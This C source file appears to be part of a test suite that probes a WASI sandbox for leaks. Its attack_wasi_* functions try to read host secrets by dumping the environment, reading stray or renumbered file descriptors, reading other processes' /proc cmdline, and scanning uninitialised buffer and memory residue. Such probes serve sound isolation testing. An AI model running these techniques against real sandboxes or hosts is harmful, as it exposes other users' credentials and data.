/* What was left in sight. */
#include "attack.h"

extern char **environ;

int attack_wasi_environment(void)
{
	for (char **entry = environ; *entry; entry++)
		puts(*entry);
	return *environ ? DONE : refused("environ");
}

/* Whatever number a descriptor of the launcher or the worker might have; the plain act is to open the file. */
int attack_wasi_descriptors_left(void)
{
	enum { MOST = 1024 };
	static uint8_t bytes[4096];
	bool any = false;
	for (__wasi_fd_t fd = FIRST_FOLDER; fd < MOST; fd++) {
		__wasi_iovec_t into = { bytes, sizeof bytes };
		__wasi_size_t length = 0;
		if (!__wasi_fd_pread(fd, &into, 1, 0, &length) || !__wasi_fd_read(fd, &into, 1, &length))
			any |= length > 0 && write(STDOUT_FILENO, bytes, length) > 0;
		any |= spill_below((int)fd, need("secret") + 1);
	}
	return any ? DONE : spill_path(need("secret"));
}

/* A descriptor of the guest's gets the number that the launcher's own has, and others that no table is made for. */
int attack_wasi_renumbered(void)
{
	const __wasi_fd_t numbers[] = { 100, 99, 101, 5, 6, 7, 1 << 16, 1 << 24, INT32_MAX, UINT32_MAX };
	bool any = false;
	for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++) {
		int fd = open("/dev/null", O_RDONLY);
		__wasi_fd_renumber((__wasi_fd_t)fd, numbers[i]);
		__wasi_fd_renumber(numbers[i], numbers[i]);
		any |= spill((int)numbers[i]);
		__wasi_fd_close(numbers[i]);
		any |= spill((int)numbers[i]);
	}
	return any ? DONE : spill_path(need("secret"));
}

int attack_wasi_arguments_of_others(void)
{
	bool any = false;
	for (int process = 1; process < 64; process++)
		any |= spill_path(PATH_OF("/proc/%d/cmdline", process)) == DONE;
	any |= spill_path(PATH_OF("/proc/%s/cmdline", need("victim"))) == DONE;
	return any ? DONE : REFUSED;
}

static bool spill_if_marked(const uint8_t *bytes, size_t length, uint8_t mark)
{
	for (size_t i = 0; i < length; i++)
		if (bytes[i] != mark && bytes[i] != 0)
			return fwrite(bytes, 1, length, stdout) == length;
	return false;
}

/*
 * Host memory behind what a call fills: the rest of directory entries' records, of stat buffers, of fresh pages. The
 * worker's environment would be in reach of such a leak; the plain act is to read the variable.
 */
int attack_wasi_residue(void)
{
	enum { LENGTH = 1 << 16 };
	const uint8_t mark = 0xa5;
	uint8_t *bytes = malloc(LENGTH);
	bool any = false;
	__wasi_size_t used = 0;
	for (int folder = FIRST_FOLDER; folder < LAST_FOLDER; folder++) {
		memset(bytes, mark, LENGTH);
		if (!__wasi_fd_readdir((__wasi_fd_t)folder, bytes, LENGTH, 0, &used) && used < LENGTH)
			any |= spill_if_marked(bytes + used, LENGTH - used, mark);
	}
	enum { FRESH_PAGES = 128, PAGE = 1 << 16 };
	size_t fresh = __builtin_wasm_memory_grow(0, FRESH_PAGES);
	if (fresh != SIZE_MAX)
		any |= spill_if_marked((const uint8_t *)(fresh * PAGE), FRESH_PAGES * PAGE, 0);
	return attack_wasi_environment() == DONE || any ? DONE : REFUSED;
}
